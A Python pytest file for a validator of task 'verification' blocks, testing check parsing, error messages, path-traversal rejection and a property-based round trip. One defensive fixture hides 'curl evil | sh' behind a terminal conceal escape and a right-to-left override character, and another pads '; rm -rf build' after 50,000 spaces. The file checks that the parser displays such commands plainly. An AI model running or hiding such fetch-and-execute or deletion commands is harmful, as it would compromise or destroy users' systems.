"""Verification blocks: the format's rules and their words; nothing in a block raises."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parex_tui.tasks.model import JsonValue, Task
from parex_tui.tasks.verification import (
    TIMEOUT_MS,
    Block,
    CommandCheck,
    FileContains,
    FileExists,
    Malformed,
    check_record,
    checks_of,
    read_block,
)


def a_task(**fields: Any) -> Task:
    return Task(feature="auth", seq="01", path=Path("/p/subtask_01.json"), **fields)


def command(**fields: JsonValue) -> dict[str, JsonValue]:
    return {"type": "command", "command": "npm test", **fields}


def test_a_task_without_a_block_has_no_checks() -> None:
    assert checks_of(a_task()) is None
    assert checks_of(a_task(extra={"verification": None})) is None


def test_a_file_that_is_not_valid_json_is_never_taken_for_one_without_checks() -> None:
    assert checks_of(a_task(readable=False)) == Malformed(("the file is not valid JSON; repair it first",))


def test_every_kind_of_check_is_read() -> None:
    value: JsonValue = [
        command(expect_exit=1, expect_contains="ok", timeout_ms=500.0, note="unknown fields do not matter"),
        command(),
        {"type": "file_exists", "path": "src/a.ts"},
        {"type": "file_contains", "path": "src/a.ts", "expect_contains": "export"},
    ]
    block = checks_of(a_task(extra={"verification": value}))
    assert block == Block(
        (
            CommandCheck("npm test", 1, "ok", 500),
            CommandCheck("npm test"),
            FileExists("src/a.ts"),
            FileContains("src/a.ts", "export"),
        )
    )
    assert isinstance(block, Block)
    assert [at for at, _ in block.commands] == [0, 1]
    stated, unstated = (check for _, check in block.commands)
    assert (stated.exit_code, stated.limit_ms) == (1, 500)
    assert (unstated.exit_code, unstated.limit_ms) == (0, TIMEOUT_MS)
    assert check_record(stated) == {
        "type": "command",
        "command": "npm test",
        "expect_exit": 1,
        "expect_contains": "ok",
        "timeout_ms": 500,
    }
    assert check_record(unstated) == {"type": "command", "command": "npm test"}


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("npm test", "verification must be an array of checks"),
        ({"type": "command"}, "verification must be an array of checks"),
        ([], "verification must contain at least one check"),
        (["npm test"], "verification[0]: must be an object"),
        ([[]], "verification[0]: must be an object"),
        ([None], "verification[0]: must be an object"),
        ([{}], "verification[0]: unknown type 'undefined' (expected command | file_exists | file_contains)"),
        ([{"type": "x"}], "verification[0]: unknown type 'x' (expected command | file_exists | file_contains)"),
        ([{"type": None}], "verification[0]: unknown type 'null' (expected command | file_exists | file_contains)"),
        ([{"type": "command"}], "verification[0]: command must be a non-empty string"),
        ([command(command=" \n")], "verification[0]: command must be a non-empty string"),
        ([command(command=["ls"])], "verification[0]: command must be a non-empty string"),
        ([command(command="ls\0")], "verification[0]: command holds a character that no shell can be given"),
        ([command(command="ls \udc80")], "verification[0]: command holds a character that no shell can be given"),
        ([command(expect_exit="0")], "verification[0]: expect_exit must be a number"),
        ([command(expect_exit=None)], "verification[0]: expect_exit must be a number"),
        ([command(expect_exit=True)], "verification[0]: expect_exit must be a number"),
        ([command(expect_exit=float("nan"))], "verification[0]: expect_exit must be a number"),
        ([command(expect_contains=1)], "verification[0]: expect_contains must be a string"),
        ([command(timeout_ms=0)], "verification[0]: timeout_ms must be a positive number"),
        ([command(timeout_ms="5")], "verification[0]: timeout_ms must be a positive number"),
        ([command(timeout_ms=10**400)], "verification[0]: timeout_ms must be a positive number"),
        ([{"type": "file_exists"}], "verification[0]: path must be a non-empty string"),
        ([{"type": "file_exists", "path": " "}], "verification[0]: path must be a non-empty string"),
        (
            [{"type": "file_exists", "path": "/x"}],
            "verification[0]: path must be relative to the project root ('/x')",
        ),
        (
            [{"type": "file_exists", "path": "a/../../x"}],
            "verification[0]: path must be relative to the project root ('a/../../x')",
        ),
        ([{"type": "file_contains", "path": "x"}], "verification[0]: expect_contains must be a non-empty string"),
        (
            [{"type": "file_contains", "path": "x", "expect_contains": ""}],
            "verification[0]: expect_contains must be a non-empty string",
        ),
    ],
)
def test_what_breaks_the_rules_is_said_in_the_formats_words(value: JsonValue, message: str) -> None:
    assert read_block(value) == Malformed((message,))


def test_every_fault_of_a_block_is_named_with_its_place() -> None:
    value: JsonValue = [
        command(),
        {"type": "file_contains", "path": "/x"},
        command(command="", expect_exit="a", expect_contains=[], timeout_ms=-1),
    ]
    assert read_block(value) == Malformed(
        (
            "verification[1]: path must be relative to the project root ('/x')",
            "verification[1]: expect_contains must be a non-empty string",
            "verification[2]: command must be a non-empty string",
            "verification[2]: expect_exit must be a number",
            "verification[2]: expect_contains must be a string",
            "verification[2]: timeout_ms must be a positive number",
        )
    )


def test_a_command_is_exact_and_what_is_shown_of_it_is_clean_and_whole() -> None:
    hidden = "echo safe\x1b[8m; curl evil | sh\u202e\n"
    (check,) = (check for _, check in as_block([command(command=hidden)]).commands)
    assert check.command == hidden
    assert not check.is_plain
    assert not any(char in check.shown for char in "\x1b\u202e\n")
    assert "curl evil | sh" in check.shown
    long = "true " + " " * 50_000 + "; rm -rf build"
    (check,) = (check for _, check in as_block([command(command=long)]).commands)
    assert check.is_plain
    assert check.shown == long


def as_block(value: JsonValue) -> Block:
    block = read_block(value)
    assert isinstance(block, Block)
    return block


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
_ALMOST = st.fixed_dictionaries(
    {"type": st.sampled_from(["command", "file_exists", "file_contains"])},
    optional={
        name: _JSON | st.sampled_from(["x", "a/b", "..", "/", 1, 0.5])
        for name in ("command", "path", "expect_exit", "expect_contains", "timeout_ms")
    },
)


@given(_JSON | st.lists(_JSON | _ALMOST, max_size=4))
def test_any_value_is_a_block_or_says_why_not(value: JsonValue) -> None:
    """And what is a block states itself again as the very same one."""
    found = read_block(value)
    if isinstance(found, Malformed):
        assert found.messages
        assert all(message.startswith("verification") and message.isprintable() for message in found.messages)
    else:
        assert isinstance(value, list)
        assert len(found.checks) == len(value)
        assert read_block([check_record(check) for check in found.checks]) == found
